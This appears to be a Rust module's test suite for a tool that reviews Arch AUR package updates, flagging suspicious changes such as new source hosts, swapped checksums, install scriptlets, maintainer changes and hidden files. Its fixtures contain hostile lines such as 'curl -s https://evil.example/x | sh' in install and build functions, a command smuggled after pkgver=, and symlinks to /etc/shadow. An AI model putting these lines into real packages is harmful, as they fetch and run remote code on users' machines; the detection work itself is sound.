/// The .SRCINFO keys whose values differ, the new ones unbumped, leaving out what other flags
/// cover: the pkgbase's version, checksum and source keys, and `install`.
fn srcinfo_changes(old: &Fields, new: &Fields, bump: Option<Unbump>) -> Option<Flag> {
    let unbumped: Fields =
        new.iter().map(|(key, values)| (key.clone(), values.iter().map(|v| unbump(v, bump)).collect())).collect();
    let covered = |(section, key): &(String, String)| {
        key == "install" || section.is_empty() && (is_version(key) || is_checksum(key) || is_source(key))
    };
    let keys: BTreeSet<&(String, String)> = old.keys().chain(unbumped.keys()).filter(|k| !covered(k)).collect();
    let keys: Vec<String> = keys
        .into_iter()
        .filter(|k| old.get(*k) != unbumped.get(*k))
        .map(|(section, key)| if section.is_empty() { key.clone() } else { format!("{key} ({section})") })
        .collect();
    (!keys.is_empty()).then_some(Flag::SrcinfoChanged { keys })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hosts_are_read_from_named_and_vcs_sources_and_local_files_have_none() {
        assert_eq!(host("foo-1.0.tar.gz::https://GitHub.com/foo/foo/archive/v1.0.tar.gz").unwrap(), "github.com");
        assert_eq!(host("git+https://user@gitlab.example:8443/foo.git#tag=v1.0").unwrap(), "gitlab.example");
        assert_eq!(host("foo.tar.gz::https://[2001:db8::1]:8080/foo.tar.gz").unwrap(), "2001:db8::1");
        assert_eq!(host("https://evil.example?x=github.com/").unwrap(), "evil.example");
        assert_eq!(host("fix.patch"), None);
        assert_eq!(host("file:///etc/passwd"), None);
    }

    #[test]
    fn srcinfo_fields_belong_to_their_section() {
        let text = "# Generated by makepkg\npkgbase = foo\n\tpkgver = 1.0\n\tsource_x86_64 = a.tar.gz\n\
\tsha256sums_x86_64 = SKIP\n\tdepends =\n\npkgname = foo-cli\n\tdepends = foo\n";
        let fields = parse_srcinfo(text);
        let get = |section: &str, key: &str| fields[&(section.to_string(), key.to_string())].clone();
        assert_eq!(get("", "pkgbase"), ["foo"]);
        assert_eq!(get("", "depends"), [""]);
        assert_eq!(get("foo-cli", "pkgname"), ["foo-cli"]);
        assert_eq!(get("foo-cli", "depends"), ["foo"]);
        assert_eq!(pkgbase_lists(&fields, is_source), [("source_x86_64", &vec!["a.tar.gz".to_string()])]);
        assert!(is_checksum("sha256sums_x86_64") && is_checksum("b2sums") && !is_checksum("depends"));
    }

    #[test]
    fn functions_end_at_their_closing_brace_whatever_the_header_style() {
        let text = "pkgname=foo\nbuild()\n{\n  echo '}' \"{\" # }\n  make\n}\n\nfunction package_foo-cli () {\n  \
if true; then echo ${pkgver}; fi\n}\n_helper() { make -C \"$srcdir\"; }\nfoo=1\n";
        let pkgbuild = split_functions(text);
        let names: Vec<&String> = pkgbuild.functions.keys().collect();
        assert_eq!(names, ["_helper", "build", "package_foo-cli"]);
        assert_eq!(pkgbuild.functions["build"], "build()\n{\n  echo '}' \"{\" # }\n  make\n}\n");
        assert_eq!(pkgbuild.outside, ["pkgname=foo", "foo=1"]);
        assert_eq!(function_name("arch=('x86_64')"), None);
        assert_eq!(function_name("  check() {").unwrap(), "check");
    }

    const FOO_PKGBUILD: &str = r#"# Maintainer: Alice <alice at example dot org>
pkgname=foo
pkgver=@VER@
pkgrel=1
pkgdesc='A fast foo for the command line'
arch=('x86_64' 'aarch64')
url='https://github.com/foo/foo'
license=('MIT')
depends=('gcc-libs' 'glibc')
makedepends=('cargo')
source=("$pkgname-$pkgver.tar.gz::https://github.com/foo/foo/archive/v$pkgver.tar.gz")
sha256sums=('@SUM@')

prepare() {
  cd "$pkgname-$pkgver"
  cargo fetch --locked --target "$(rustc -vV | sed -n 's/host: //p')"
}

build() {
  cd "$pkgname-$pkgver"
  export CARGO_TARGET_DIR=target
  cargo build --frozen --release --all-features
}

check() {
  cd "$pkgname-$pkgver"
  cargo test --frozen --all-features
}

package() {
  cd "$pkgname-$pkgver"
  install -Dm0755 -t "$pkgdir/usr/bin/" "target/release/$pkgname"
  install -Dm0644 LICENSE -t "$pkgdir/usr/share/licenses/$pkgname/"
}
"#;

    const FOO_SRCINFO: &str = "pkgbase = foo
	pkgdesc = A fast foo for the command line
	pkgver = @VER@
	pkgrel = 1
	url = https://github.com/foo/foo
	arch = x86_64
	arch = aarch64
	license = MIT
	makedepends = cargo
	depends = gcc-libs
	depends = glibc
	source = foo-@VER@.tar.gz::https://github.com/foo/foo/archive/v@VER@.tar.gz
	sha256sums = @SUM@

pkgname = foo
";

    const SUM_A: &str = "5d3c8e1f0a7b94c2e6f1d8a03b5c7e9f1a2b4c6d8e0f1a3b5c7d9e1f3a5b7c9d";
    const SUM_B: &str = "e8a1f7c3d5b9026e4a8c1f3d7b5e9a0c2d4f6a8b0c1e3f5a7b9c0d2e4f6a8b0c";

    /// foo at `ver`, its tarball's checksum `sum`, maintained by alice.
    fn foo(ver: &str, sum: &str) -> Snapshot {
        let fill = |text: &str| text.replace("@VER@", ver).replace("@SUM@", sum);
        let files = [(PKGBUILD.to_string(), fill(FOO_PKGBUILD)), (SRCINFO.to_string(), fill(FOO_SRCINFO))];
        Snapshot { files: files.into(), maintainer: Some("alice".into()), ..Snapshot::default() }
    }

    /// `snapshot` with `from` replaced by `to` in its file `path` (which must hold `from`).
    fn edit(mut snapshot: Snapshot, path: &str, from: &str, to: &str) -> Snapshot {
        let text = snapshot.files.get_mut(path).unwrap();
        assert!(text.contains(from), "{path} has no {from:?}");
        *text = text.replace(from, to);
        snapshot
    }

    fn strings(items: &[&str]) -> Vec<String> {
        items.iter().map(|s| s.to_string()).collect()
    }

    #[test]
    fn a_version_bump_alone_is_version_only() {
        let old = foo("1.2.0", SUM_A);
        let new = foo("1.3.0", SUM_B);
        assert_eq!(assess(Some(&old), &new), []);
        assert!(version_only(&old, &new));
        let rebuild = edit(edit(old.clone(), PKGBUILD, "pkgrel=1", "pkgrel=2"), SRCINFO, "pkgrel = 1", "pkgrel = 2");
        assert!(version_only(&old, &rebuild));
    }

    #[test]
    fn blank_lines_added_or_removed_are_version_only() {
        // Issue 29: one blank line held a version-only update as "changed outside its functions".
        let old = foo("1.2.0", SUM_A);
        let spaced = edit(foo("1.3.0", SUM_B), PKGBUILD, "license=('MIT')\n", "license=('MIT')\n\n  \t\n");
        let spaced = edit(spaced, PKGBUILD, "  cargo fetch", "\n  cargo fetch");
        let spaced = edit(spaced, PKGBUILD, "\nprepare()", "prepare()");
        assert_eq!(assess(Some(&old), &spaced), []);
        assert!(version_only(&old, &spaced));
        let code = edit(foo("1.3.0", SUM_B), PKGBUILD, "license=('MIT')\n", "license=('MIT')\n\n:\n");
        assert_eq!(assess(Some(&old), &code), [Flag::PkgbuildChanged]);
    }

    #[test]
    fn a_bump_is_undone_only_where_the_version_stands_alone() {
        let bump = Unbump::between(Some("5"), Some("6"));
        assert_eq!(
            unbump("foo-6.tar.gz::https://foo.example/v6/x86_64/foo-6.tar.gz", bump),
            "foo-5.tar.gz::https://foo.example/v5/x86_64/foo-5.tar.gz"
        );
        assert_eq!(unbump("arch = x86_64 i686 16", bump), "arch = x86_64 i686 16");
        assert_eq!(Unbump::between(Some("1.0"), Some("")).map(|b| b.new), None);
        let fix =
            |s: Snapshot| edit(edit(s, PKGBUILD, "'aarch64'", "'i686'"), SRCINFO, "arch = aarch64", "arch = i686");
        assert!(version_only(&fix(foo("5", SUM_A)), &fix(foo("6", SUM_B))));
    }

    #[test]
    fn a_bump_that_moves_the_tarball_to_another_host_flags_the_host() {
        let github = "https://github.com/foo/foo/archive";
        let evil = "https://evil.example/foo/archive";
        let new = edit(edit(foo("1.3.0", SUM_B), PKGBUILD, github, evil), SRCINFO, github, evil);
        let sources = Flag::SourcesChanged {
            added: strings(&["foo-1.3.0.tar.gz::https://evil.example/foo/archive/v1.3.0.tar.gz"]),
            removed: strings(&["foo-1.2.0.tar.gz::https://github.com/foo/foo/archive/v1.2.0.tar.gz"]),
        };
        let hosts = Flag::NewHosts { hosts: strings(&["evil.example"]) };
        let old = foo("1.2.0", SUM_A);
        assert_eq!(assess(Some(&old), &new), [sources, hosts, Flag::PkgbuildChanged]);
        assert!(!version_only(&old, &new));
    }

    #[test]
    fn another_checksum_for_the_same_urls_is_a_swapped_tarball() {
        let old = foo("1.2.0", SUM_A);
        let not_newer = Flag::NotNewer { from: "1.2.0-1".into(), to: "1.2.0-1".into() };
        assert_eq!(assess(Some(&old), &foo("1.2.0", SUM_B)), [Flag::ChecksumsWithoutSources, not_newer]);
        // Conservative: also when pkgver moves but the URL does not name it.
        let latest = |ver, sum| {
            let url = "https://foo.example/download/foo-latest.tar.gz";
            let s = edit(
                foo(ver, sum),
                PKGBUILD,
                "$pkgname-$pkgver.tar.gz::https://github.com/foo/foo/archive/v$pkgver.tar.gz",
                url,
            );
            let written = format!("foo-{ver}.tar.gz::https://github.com/foo/foo/archive/v{ver}.tar.gz");
            edit(s, SRCINFO, &written, url)
        };
        let (old, new) = (latest("1.2.0", SUM_A), latest("1.3.0", SUM_B));
        assert_eq!(assess(Some(&old), &new), [Flag::ChecksumsWithoutSources]);
        assert!(!version_only(&old, &new));
    }

    /// foo at `ver` with `install=foo.install` holding `script`.
    fn foo_with_install(ver: &str, sum: &str, script: &str) -> Snapshot {
        let s =
            edit(foo(ver, sum), PKGBUILD, "makedepends=('cargo')\n", "makedepends=('cargo')\ninstall=foo.install\n");
        let mut s = edit(
            s,
            SRCINFO,
            "\turl = https://github.com/foo/foo\n",
            "\turl = https://github.com/foo/foo\n\tinstall = foo.install\n",
        );
        s.files.insert("foo.install".into(), script.into());
        s
    }

    #[test]
    fn an_install_scriptlet_added_or_changed_is_flagged() {
        let script = "post_install() {\n  systemctl daemon-reload\n}\n";
        let old = foo("1.2.0", SUM_A);
        let new = foo_with_install("1.3.0", SUM_B, script);
        let added = Flag::FilesChanged { added: strings(&["foo.install"]), removed: vec![], changed: vec![] };
        let install = Flag::InstallScript { detail: "install=foo.install added".into() };
        assert_eq!(assess(Some(&old), &new), [install, added, Flag::PkgbuildChanged]);

        let newer = foo_with_install("1.4.0", SUM_A, "post_install() {\n  curl -s https://evil.example/x | sh\n}\n");
        let changed = Flag::FilesChanged { added: vec![], removed: vec![], changed: strings(&["foo.install"]) };
        let install = Flag::InstallScript { detail: "foo.install changed".into() };
        let host = Flag::NewHosts { hosts: strings(&["evil.example"]) };
        assert_eq!(assess(Some(&new), &newer), [host, install, changed]);
        assert!(version_only(&new, &foo_with_install("1.4.0", SUM_A, script)));
    }

    #[test]
    fn a_url_written_in_a_function_or_a_stale_srcinfo_is_flagged() {
        let old = foo("1.0", &"a".repeat(64));
        // build() fetches and runs a script; the .SRCINFO is left as it was.
        let new = edit(old.clone(), PKGBUILD, "build() {", "build() {\n  curl -fsSL https://evil.example/x.sh | sh");
        let flags = assess(Some(&old), &new);
        assert!(flags.contains(&Flag::NewHosts { hosts: strings(&["evil.example"]) }), "{flags:?}");
        assert!(flags.contains(&Flag::SrcinfoOutOfStep { changed: PKGBUILD.to_string() }), "{flags:?}");
        assert!(!version_only(&old, &new));
        // A host written through a variable is not a host; a bump names no new one.
        let var = edit(old.clone(), PKGBUILD, "build() {", "build() {\n  curl https://$_mirror/x");
        assert!(!assess(Some(&old), &var).iter().any(|f| matches!(f, Flag::NewHosts { .. })));
        assert!(version_only(&old, &foo("1.1", &"b".repeat(64))));
    }

    #[test]
    fn a_changed_package_function_is_flagged_by_name() {
        let line = "  install -Dm0644 LICENSE";
        let new = edit(
            foo("1.3.0", SUM_B),
            PKGBUILD,
            line,
            &format!("  ln -s /usr/bin/foo \"$pkgdir/usr/bin/sudo\"\n{line}"),
        );
        let old = foo("1.2.0", SUM_A);
        assert_eq!(assess(Some(&old), &new), [Flag::FunctionsChanged { names: strings(&["package"]) }]);
        assert!(!version_only(&old, &new));
    }

    const SPLIT_PKGBUILD: &str = r#"pkgbase=foo
pkgname=('foo' 'foo-cli')
pkgver=2.0.1
pkgrel=1
arch=('x86_64')
source=("https://foo.example/releases/foo-$pkgver.tar.xz")
b2sums=('SKIP')

build() {
  make -C "foo-$pkgver"
}

package_foo() {
  make -C "foo-$pkgver" DESTDIR="$pkgdir" install-lib
}

package_foo-cli() {
  depends=('foo')
  make -C "foo-$pkgver" DESTDIR="$pkgdir" install-cli
}
"#;

    #[test]
    fn a_split_package_function_is_flagged_by_its_pkgname() {
        let split =
            |text: &str| Snapshot { files: [(PKGBUILD.to_string(), text.to_string())].into(), ..Snapshot::default() };
        let old = split(SPLIT_PKGBUILD);
        let new = split(&SPLIT_PKGBUILD.replace("install-cli", "install-cli install-completions"));
        let same = Flag::NotNewer { from: "2.0.1-1".into(), to: "2.0.1-1".into() };
        assert_eq!(assess(Some(&old), &new), [same, Flag::FunctionsChanged { names: strings(&["package_foo-cli"]) }]);
        let bump = split(&SPLIT_PKGBUILD.replace("pkgver=2.0.1", "pkgver=2.0.2"));
        assert!(version_only(&old, &bump));
        // A checksum that stops being SKIP is a source now verified against another file.
        let pinned =
            split(&SPLIT_PKGBUILD.replace("pkgver=2.0.1", "pkgver=2.0.2").replace("'SKIP'", &format!("'{SUM_A}'")));
        let skip = Flag::SkipChanged { to_skip: vec![], from_skip: strings(&["PKGBUILD b2sums[0]"]) };
        assert_eq!(assess(Some(&old), &pinned), [skip]);
    }

    #[test]
    fn who_maintains_it_is_compared() {
        let old = foo("1.2.0", SUM_A);
        let by = |maintainer: Option<&str>, comaintainers: &[&str]| Snapshot {
            maintainer: maintainer.map(str::to_string),
            comaintainers: strings(comaintainers),
            ..foo("1.3.0", SUM_B)
        };
        let changed = Flag::MaintainerChanged { from: "alice".into(), to: "bob".into() };
        assert_eq!(assess(Some(&old), &by(Some("bob"), &[])), [changed]);
        assert_eq!(assess(Some(&old), &by(None, &[])), [Flag::Orphaned { was: "alice".into() }]);
        let orphan = by(None, &[]);
        assert_eq!(assess(Some(&orphan), &by(Some("mallory"), &[])), [Flag::Adopted { by: "mallory".into() }]);
        assert!(!version_only(&orphan, &by(Some("mallory"), &[])));
        let helpers = Flag::ComaintainersChanged { added: strings(&["dave"]), removed: vec![] };
        assert_eq!(assess(Some(&by(None, &["carol"])), &by(None, &["dave", "carol"])), [helpers]);
    }

    #[test]
    fn a_pkgbase_new_to_the_lock_is_only_new() {
        assert_eq!(assess(None, &foo("1.2.0", SUM_A)), [Flag::New]);
    }

    #[test]
    fn a_patch_added_to_the_sources_is_not_version_only() {
        let s =
            edit(foo("1.3.0", SUM_B), PKGBUILD, "v$pkgver.tar.gz\")", "v$pkgver.tar.gz\"\n        'fix-build.patch')");
        let s = edit(s, PKGBUILD, &format!("'{SUM_B}')"), &format!("'{SUM_B}'\n            '{SUM_A}')"));
        let s = edit(s, PKGBUILD, "  cargo fetch", "  patch -Np1 -i ../fix-build.patch\n  cargo fetch");
        let sum = format!("sha256sums = {SUM_B}\n");
        let mut new = edit(s, SRCINFO, &sum, &format!("source = fix-build.patch\n\t{sum}\tsha256sums = {SUM_A}\n"));
        new.files.insert("fix-build.patch".into(), "--- a/build.rs\n+++ b/build.rs\n".into());
        let old = foo("1.2.0", SUM_A);
        assert_eq!(
            assess(Some(&old), &new),
            [
                Flag::SourcesChanged { added: strings(&["fix-build.patch"]), removed: vec![] },
                Flag::FunctionsChanged { names: strings(&["prepare"]) },
                Flag::FilesChanged { added: strings(&["fix-build.patch"]), removed: vec![], changed: vec![] },
                Flag::PkgbuildChanged,
            ]
        );
        assert!(!version_only(&old, &new));
    }

    #[test]
    fn code_beside_version_lines_or_checksums_is_not_taken_for_them() {
        let old = foo("1.2.0", SUM_A);
        let pkgver = edit(
            foo("1.3.0", SUM_B),
            PKGBUILD,
            "pkgver=1.3.0\n",
            "pkgver=1.3.0; curl -s https://evil.example/x | sh\n",
        );
        assert_eq!(
            assess(Some(&old), &pkgver),
            [Flag::NewHosts { hosts: strings(&["evil.example"]) }, Flag::PkgbuildChanged]
        );
        let sums =
            edit(foo("1.3.0", SUM_B), PKGBUILD, &format!("'{SUM_B}')"), &format!("'{SUM_B}' $(curl -s evil.example))"));
        assert_eq!(assess(Some(&old), &sums), [Flag::PkgbuildChanged]);
    }

    #[test]
    fn checksum_arrays_may_span_lines_and_be_per_architecture() {
        let lines =
            strings(&["b2sums_x86_64=('00ff'", "               \"SKIP\"", "               11aa)", "depends=()"]);
        assert_eq!(checksum_array(&lines, 0), Some(3));
        assert_eq!(rest(&lines, None), ["depends=()"]);
        assert_eq!(checksum_array(&strings(&["sha256sums=('00ff'", "# the patch", "'11aa')"]), 0), None);
        assert_eq!(checksum_array(&strings(&["sha256sums=('00ff\"", "'11aa')"]), 0), None);
    }

    #[test]
    fn other_srcinfo_changes_name_their_keys() {
        let key = "\tvalidpgpkeys = 0123456789ABCDEF0123456789ABCDEF01234567\n";
        let new = edit(foo("1.3.0", SUM_B), SRCINFO, "\tsource =", &format!("{key}\tsource ="));
        let new = edit(new, SRCINFO, "pkgname = foo\n", "pkgname = foo\n\tdepends = foo-helper\n");
        let keys = strings(&["validpgpkeys", "depends (foo)"]);
        assert_eq!(assess(Some(&foo("1.2.0", SUM_A)), &new), [Flag::SrcinfoChanged { keys }]);
    }

    #[test]
    fn flags_read_as_one_line_and_serialize_with_their_kind() {
        let homograph = Flag::NewHosts { hosts: strings(&["g\u{456}thub.com"]) };
        assert_eq!(homograph.to_string(), "sources from hosts not used before: g\\u{456}thub.com");
        let sources = Flag::SourcesChanged { added: strings(&["a", "b"]), removed: strings(&["c"]) };
        assert_eq!(sources.to_string(), "sources changed: added a, b; removed c");
        let json = serde_json::to_value(Flag::NewHosts { hosts: strings(&["evil.example"]) }).unwrap();
        assert_eq!(json, serde_json::json!({"flag": "new-hosts", "hosts": ["evil.example"]}));
        let json = serde_json::to_value(Flag::ChecksumsWithoutSources).unwrap();
        assert_eq!(json, serde_json::json!({"flag": "checksums-without-sources"}));
    }

    /// `snapshot` with `path` holding `text` as an entry of `mode`.
    fn with(mut snapshot: Snapshot, path: &str, text: &str, mode: Mode) -> Snapshot {
        snapshot.files.insert(path.to_string(), text.to_string());
        snapshot.modes.remove(path);
        if mode != Mode::File {
            snapshot.modes.insert(path.to_string(), mode);
        }
        snapshot
    }

    /// A commit that adds or changes a `.gitattributes` or `.lfsconfig`, a symlink or a mode is
    /// flagged by name, so it is never version-only, however plain its version bump (issue 25,
    /// item 1).
    #[test]
    fn attribute_files_symlinks_and_modes_are_flagged_and_never_version_only() {
        use Mode::*;
        let old = with(foo("1.2.0", SUM_A), "fix.sh", "make\n", File);
        let old = with(old, "sub/.gitattributes", "* -diff\n", File);
        let same = with(with(foo("1.3.0", SUM_B), "fix.sh", "make\n", File), "sub/.gitattributes", "* -diff\n", File);
        let bump = |path: &str, text: &str, mode: Mode| with(same.clone(), path, text, mode);
        let cases = [
            (
                bump(".gitattributes", "greeting.txt export-ignore\n", File),
                Flag::AttributeFiles { paths: strings(&[".gitattributes"]) },
            ),
            (
                bump("sub/.gitattributes", "* binary\n", File),
                Flag::AttributeFiles { paths: strings(&["sub/.gitattributes"]) },
            ),
            (
                bump(".lfsconfig", "[lfs]\n\turl = https://evil.example\n", File),
                Flag::AttributeFiles { paths: strings(&[".lfsconfig"]) },
            ),
            (
                bump("greeting.txt", "/etc/shadow", Symlink),
                Flag::Symlinks { links: strings(&["greeting.txt -> \"/etc/shadow\""]) },
            ),
            (bump("fix.sh", "make\n", Executable), Flag::ModesChanged { paths: strings(&["fix.sh 100644 -> 100755"]) }),
            (bump("fix.sh", "/bin/true", Symlink), Flag::Symlinks { links: strings(&["fix.sh -> \"/bin/true\""]) }),
        ];
        for (new, flag) in cases {
            let flags = assess(Some(&old), &new);
            assert!(flags.contains(&flag), "{flag:?} in {flags:?}");
            assert!(!version_only(&old, &new), "{flag:?}");
        }
        // The same links, attributes and modes as before: a plain bump.
        assert_eq!(assess(Some(&old), &same), []);
    }

    /// The attack of issue 23, item 2: the locked commit's `.gitattributes` hides greeting.txt
    /// from `git archive`, and a version bump changes it. Read from the blobs, the change shows.
    #[test]
    fn a_file_hidden_by_export_ignore_is_seen_from_the_blobs() {
        let tree = |ver: &str, sum: &str, greeting: &str| {
            let fill = |text: &str| text.replace("@VER@", ver).replace("@SUM@", sum);
            let (pkgbuild, srcinfo) = (fill(FOO_PKGBUILD), fill(FOO_SRCINFO));
            let entries: [(Mode, &str, &[u8]); 4] = [
                (Mode::File, ".gitattributes", b"greeting.txt export-ignore\n.gitattributes export-ignore\n"),
                (Mode::File, "greeting.txt", greeting.as_bytes()),
                (Mode::File, PKGBUILD, pkgbuild.as_bytes()),
                (Mode::File, SRCINFO, srcinfo.as_bytes()),
            ];
            Snapshot::from_tree(&Tree::for_tests(&"0".repeat(40), &entries), Some("alice".into()), vec![])
        };
        let old = tree("1.2.0", SUM_A, "hello\n");
        let new = tree("1.3.0", SUM_B, "payload\n");
        let changed = Flag::FilesChanged { added: vec![], removed: vec![], changed: strings(&["greeting.txt"]) };
        assert_eq!(assess(Some(&old), &new), [changed]);
        assert!(version_only(&old, &tree("1.3.0", SUM_B, "hello\n")));
    }
}
